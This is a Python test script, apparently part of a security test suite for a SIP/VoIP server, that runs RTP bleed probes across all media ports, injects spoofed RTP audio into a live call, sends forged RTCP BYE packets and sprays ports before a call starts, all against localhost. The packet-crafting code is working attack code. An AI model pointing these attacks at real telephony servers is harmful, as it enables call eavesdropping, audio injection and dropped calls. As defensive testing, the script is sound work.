"""RTP bleed and injection: all media ports of the server are sprayed, then the two ports of a call are lied to.

    rtp.py LIVE SECONDS

Whether a tone of the attacker's was heard is judged by who runs the call; here is what was sent and what came back.
"""

import json
import random
import select
import socket
import struct
import sys
import threading
import time

from sip import MEDIA, STRANGER_IP, TRUNK_IP, Call, Telephone, held, media_port, offer, row
from sound import ATTACK_HZ, CITIZEN_HZ, FRAME, Rtp, tone

HOST = "127.0.0.1"
SOUND = tone(ATTACK_HZ)


def rtp(ssrc, sequence, at, kind=8):
    start = sequence * FRAME % len(SOUND)
    head = struct.pack("!BBHII", 0x80, kind, sequence & 0xFFFF, at & 0xFFFFFFFF, ssrc)
    return head + SOUND[start : start + FRAME]


def rtcp_bye(ssrc):
    report = struct.pack("!BBHI", 0x80, 201, 1, ssrc)
    return report + struct.pack("!BBHI", 0x81, 203, 1, ssrc)


def stranger(ip=STRANGER_IP, port=0):
    of = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    of.bind((ip, port))
    of.setblocking(False)
    return of


def came(sockets, wait_s=0.5):
    """Datagrams that came back."""
    count, end = 0, time.monotonic() + wait_s
    while time.monotonic() < end:
        for ready in select.select(sockets, [], [], 0.05)[0]:
            try:
                ready.recv(2048)
                count += 1
            except OSError:
                pass
    return count


def bleed(seconds):
    of, sent, sequence, back = stranger(), 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for port in MEDIA:
            # RTCP on odd ports. The probe of rtpbleed is a header with nothing to hear; then whole packets.
            probe = rtp(7, sequence, sequence * FRAME)[: 12 if sequence % 4 == 0 else None]
            of.sendto(rtcp_bye(7) if port % 2 else probe, (HOST, port))
            sent += 1
        sequence += 1
        back += came([of], 0.06)
    back += came([of])
    row(
        "RTP and RTCP bleed: every media port",
        "rtp.py",
        f"{sent} packets, {len(MEDIA)} ports",
        f"{back} datagrams",
        held(back == 0),
    )


def inject(live, seconds):
    outside, neighbour = stranger(), stranger(TRUNK_IP)
    kinds = [
        ("another address, own SSRC", outside, random.getrandbits(32)),
        ("another address, the call's SSRC and numbers", outside, live["ssrc"]),
        ("the citizen's address, another port, the call's SSRC and numbers", neighbour, live["ssrc"]),
    ]
    for what, of, ssrc in kinds:
        end, sent = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            # Where the call's own packets are now, and a little ahead of them: the later ones would be too late.
            now = int((time.time() - live["began"]) / 0.02) + 3
            for ahead in range(3):
                for port in (live["citizen"], live["seat"]):
                    of.sendto(
                        rtp(ssrc, live["sequence"] + now + ahead, live["time"] + (now + ahead) * FRAME),
                        (HOST, port),
                    )
                    sent += 1
            time.sleep(0.01)
        back = came([of])
        row(f"injection from {what}", "rtp.py", f"{sent} packets", f"{back} datagrams", held(back == 0))
    sent = 0
    for of in (outside, neighbour):
        for _ in range(100):
            for port in (live["citizen"], live["seat"]):
                for to in (port, port + 1):
                    of.sendto(rtcp_bye(live["ssrc"]), (HOST, to))
                    sent += 1
    back = came([outside, neighbour])
    row("RTCP BYE with the call's SSRC", "rtp.py", f"{sent} packets", f"{back} datagrams", held(back == 0))


def race(attacked_first):
    """Somebody sprays the ports before a call begins; its citizen speaks at once, or only after 2 s."""
    of = stranger()
    ports = range(MEDIA.start, MEDIA.start + 200, 2)
    telephone = Telephone(
        TRUNK_IP, 0, lambda phone, request, source: phone.respond(request, source, 200, "OK") or True
    )
    heard = Rtp(TRUNK_IP, 25100 + 2 * attacked_first, CITIZEN_HZ)
    done = threading.Event()
    counts = {"sent": 0, "back": 0}

    def spray():
        number = 0
        while not done.is_set():
            for port in ports:
                of.sendto(rtp(9, number, number * FRAME), (HOST, port))
                counts["sent"] += 1
            number += 1
            counts["back"] += came([of], 0.005)

    sprayer = threading.Thread(target=spray)
    sprayer.start()
    time.sleep(0.5)
    call = Call(telephone, "12300", "race", body=offer(TRUNK_IP, heard.socket.getsockname()[1]))
    heard.to = None if attacked_first else (HOST, media_port(call.answer))
    heard.start()
    time.sleep(2)
    heard.to = (HOST, media_port(call.answer))
    since = time.monotonic()
    time.sleep(3)
    own = len([1 for at, _, _ in heard.heard if at >= since])
    done.set()
    sprayer.join()
    call.ask("BYE")
    heard.is_over = True
    telephone.close()
    what = "that speaks only after 2 s" if attacked_first else "that speaks at once"
    keeps = own >= 140 and counts["back"] == 0
    took = "" if keeps else f"; the citizen got {own} of 150 packets"
    row(
        f"ports sprayed before a call begins {what}",
        "rtp.py",
        f"{counts['sent']} packets, {len(ports)} ports",
        f"{counts['back']} datagrams{took}",
        "held" if keeps else "BROKEN",
    )


def main(live, seconds):
    with open(live) as file:
        live = json.load(file)
    bleed(float(seconds))
    inject(live, float(seconds))
    race(False)
    race(True)


main(*sys.argv[1:])
